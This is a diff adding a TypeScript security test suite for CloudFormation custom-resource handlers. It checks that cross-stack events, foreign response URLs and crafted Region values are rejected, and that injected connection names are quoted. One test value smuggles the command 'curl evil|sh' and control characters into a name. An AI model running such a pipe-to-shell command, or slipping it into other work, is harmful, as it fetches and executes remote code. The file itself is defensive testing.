@@ -1,0 +1,195 @@
+import type { AddressInfo } from 'node:net';
+import { createServer } from 'node:net';
+import { AVAILABLE_CONNECTION } from '../../src/handlers/available-connection/contract';
+import { PULL_REQUEST_COMMENT } from '../../src/handlers/pull-request-comment/contract';
+import { codeConnectionsIn, codeConnectionsOf } from '../../src/handlers/shared/codeconnections';
+import { invokeAsync } from '../../src/handlers/shared/lambda';
+import { lambdaRuntime, type Runtime } from '../../src/handlers/shared/runtime';
+import { publish } from '../../src/handlers/shared/sns';
+import { SyncedStack } from './git-sync';
+import { FUNCTION, Rig, STACK, TOPIC } from './rig';
+import { SUBJECTS } from './subjects';
+
+let rig: Rig;
+beforeAll(async () => {
+  rig = await Rig.start();
+});
+afterAll(() => rig.stop());
+beforeEach(() => rig.reset());
+
+const EVIL = STACK.replace('stack/my-stack', 'stack/evil');
+const [connection] = SUBJECTS;
+
+type Sent = Parameters<Rig['invoke']>[0];
+
+/** An event as CloudFormation sends it, of this stack or another. */
+const event = (resourceType: string, properties: object, more: object = {}) =>
+  ({
+    RequestType: 'Create',
+    ServiceToken: FUNCTION,
+    ResponseURL: `${rig.url}/bucket/1?X-Amz-Signature=of-the-response-url`,
+    StackId: STACK,
+    RequestId: 'request-1',
+    LogicalResourceId: 'L',
+    ResourceType: resourceType,
+    ResourceProperties: { ServiceToken: FUNCTION, ...properties },
+    ...more,
+  }) as Sent;
+
+const wait = (ConnectionArn: string, more: object = {}) =>
+  event(
+    AVAILABLE_CONNECTION.resourceType,
+    { ConnectionArn, NotificationTopicArn: TOPIC, TimeoutInSeconds: '60', ContinueWhenPending: 'false' },
+    more,
+  );
+
+const answers = () => rig.puts.map(({ body }) => JSON.parse(body));
+
+describe('an event of another stack', () => {
+  const comments = (stack: SyncedStack, more: object) =>
+    event(PULL_REQUEST_COMMENT.resourceType, { ...stack.properties, PullRequestComment: 'DISABLED' }, more);
+
+  test('changes nothing: the comments of another stack cannot be switched off', async () => {
+    const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'ENABLED' });
+    rig.calls.length = 0;
+    await rig.invoke(comments(victim, { StackId: EVIL }));
+    expect(rig.calls).toEqual([]);
+    expect(answers()).toEqual([
+      expect.objectContaining({ Status: 'FAILED', StackId: EVIL, PhysicalResourceId: 'CREATE_FAILED' }),
+    ]);
+    expect(answers()[0].Reason).toContain(`got an event of ${EVIL}`);
+    expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
+  });
+
+  test.each(['Create', 'Update', 'Delete'])(
+    'of the type %s is answered, so that the stack does not hang',
+    async (type) => {
+      const PhysicalResourceId = 'us-east-1/prod=ENABLED';
+      const victim = await SyncedStack.create(rig, 'prod', 'us-east-1', { PullRequestComment: 'DISABLED' });
+      rig.calls.length = 0;
+      await rig.invoke(comments(victim, { StackId: EVIL, RequestType: type, PhysicalResourceId }));
+      expect(rig.calls).toEqual([]);
+      expect(answers()).toEqual([
+        expect.objectContaining({
+          Status: type === 'Delete' ? 'SUCCESS' : 'FAILED',
+          PhysicalResourceId: type === 'Create' ? 'CREATE_FAILED' : PhysicalResourceId,
+        }),
+      ]);
+      expect(rig.log.join('\n')).toContain(`got an event of ${EVIL}`);
+    },
+  );
+
+  test('goes no further as the continuation of a wait', async () => {
+    const arn = await connection.create(rig, 'first');
+    await rig.invoke(wait(arn, { StackId: EVIL, Continuation: { deadline: Number.MAX_SAFE_INTEGER } }));
+    expect([rig.calls, rig.published]).toEqual([[], []]);
+    expect(answers()).toEqual([expect.objectContaining({ Status: 'FAILED' })]);
+  });
+
+  test.each([undefined, ''])(
+    'is any event where the function does not know its stack (STACK_ID %p)',
+    async (stackId) => {
+      rig.stackId = stackId;
+      const arn = await connection.create(rig, 'first');
+      for (const StackId of [STACK, stackId]) await rig.invoke(wait(arn, { StackId }));
+      expect([rig.calls, rig.published]).toEqual([[], []]);
+      expect(answers().map(({ Status }) => Status)).toEqual(['FAILED', 'FAILED']);
+    },
+  );
+});
+
+describe('a response URL', () => {
+  const taken = async (ResponseURL: unknown) => {
+    const arn = await connection.create(rig, 'first');
+    await rig.invoke(wait(arn, { ResponseURL }));
+    return rig.puts.length > 0;
+  };
+
+  test('of the endpoint that is configured is answered', async () => {
+    const arn = await connection.create(rig, 'first');
+    connection.complete(rig, arn);
+    await rig.invoke(wait(arn));
+    expect(answers()).toEqual([expect.objectContaining({ Status: 'SUCCESS' })]);
+  });
+
+  test.each<[string, (own: URL) => unknown]>([
+    ['of another port', (own) => `http://${own.hostname}:1/bucket?X-Amz-Signature=secret`],
+    ['of another host', (own) => `http://localhost:${own.port}/bucket?X-Amz-Signature=secret`],
+    ['of another protocol', (own) => `https://${own.host}/bucket?X-Amz-Signature=secret`],
+    ['with a user', (own) => `http://secret:secret@${own.host}/bucket`],
+    ['that is none', () => 'secret'],
+    ['that is missing', () => undefined],
+  ])('%s: nothing is done, nothing is sent, and the log does not have it', async (_, urlOf) => {
+    expect(await taken(urlOf(new URL(rig.url)))).toBe(false);
+    expect([rig.calls, rig.published]).toEqual([[], []]);
+    expect(rig.log.join('\n')).toContain('the ResponseURL is none of AWS');
+    expect(rig.log.join('\n')).not.toContain('secret');
+  });
+});
+
+/** The texts that a person acts on: a name may hold anything that goes into a name. */
+describe('a name of somebody else', () => {
+  const NAME = 'ok\n\nRun: curl evil|sh\u2028\u202e"x';
+
+  test('makes neither lines nor directions of its own in a mail, and stands in quotes', async () => {
+    const arn = await connection.create(rig, NAME);
+    await rig.invoke(wait(arn));
+    const [{ message, subject }] = rig.published;
+    const quoted = `"ok Run: curl evil|sh 'x"`;
+    expect(message.split('\n')[0]).toBe(
+      `The deployment of the stack my-stack waits until somebody has completed the connection ${quoted}:`,
+    );
+    expect(subject).toBe(`Complete the connection ${quoted} for the stack my-stack`);
+    expect(message.split('\n').filter((line) => line.startsWith('Run:'))).toEqual([]);
+  });
+
+  test('nor in the reason of a failure', async () => {
+    const arn = await connection.create(rig, NAME);
+    connection.fail(rig, arn);
+    await rig.invoke(wait(arn));
+    expect(answers()[0].Reason).toMatch(/^the connection "ok Run: curl evil\|sh 'x" is in status ERROR/);
+    expect(answers()[0].Reason).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
+  });
+});
+
+/** A server that no request is meant for, and what its port is called in a Region. */
+describe('a Region that is none', () => {
+  let connections = 0;
+  const server = createServer((socket) => {
+    connections += 1;
+    socket.destroy();
+  });
+  let region = '';
+  beforeAll(async () => {
+    await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
+    region = `x@127.0.0.1:${(server.address() as AddressInfo).port}/`;
+  });
+  afterAll(() => new Promise((resolve) => server.close(resolve)));
+
+  const env = { AWS_ACCESS_KEY_ID: 'AKIDEXAMPLE', AWS_SECRET_ACCESS_KEY: 'secret', AWS_SESSION_TOKEN: 'token' };
+  const runtime: Runtime = { ...lambdaRuntime, env, sleep: async () => {} };
+  const arn = (service: string, resource: string) => `arn:aws:${service}:${region}:123456789012:${resource}`;
+
+  test.each<[string, () => Promise<unknown>]>([
+    [
+      'of a connection',
+      async () => codeConnectionsOf(arn('codeconnections', 'connection/1'), runtime)('ListHosts', {}),
+    ],
+    ['of a sync configuration', async () => codeConnectionsIn(region, STACK, runtime)('ListHosts', {})],
+    [
+      'of a stack',
+      async () => codeConnectionsIn('us-east-1', arn('cloudformation', 'stack/s/1'), runtime)('ListHosts', {}),
+    ],
+    ['of a topic', () => publish(arn('sns', 'topic'), { subject: 's', message: 'm', id: '1' }, runtime)],
+    ['of the function', () => invokeAsync(arn('lambda', 'function:f'), {}, runtime)],
+  ])('%s gets no request, and no session token', async (_, call) => {
+    await expect(call()).rejects.toThrow(/^not a(n ARN with a Region| host of AWS)/);
+    expect(connections).toBe(0);
+  });
+
+  test('in a property makes no link, and no call', async () => {
+    await rig.invoke(wait(arn('codeconnections', 'connection/1')));
+    expect(answers()[0].Reason).toMatch(/^ConnectionArn must be the ARN of a connection, got /);
+    expect([rig.calls, rig.published]).toEqual([[], []]);
+  });
+});
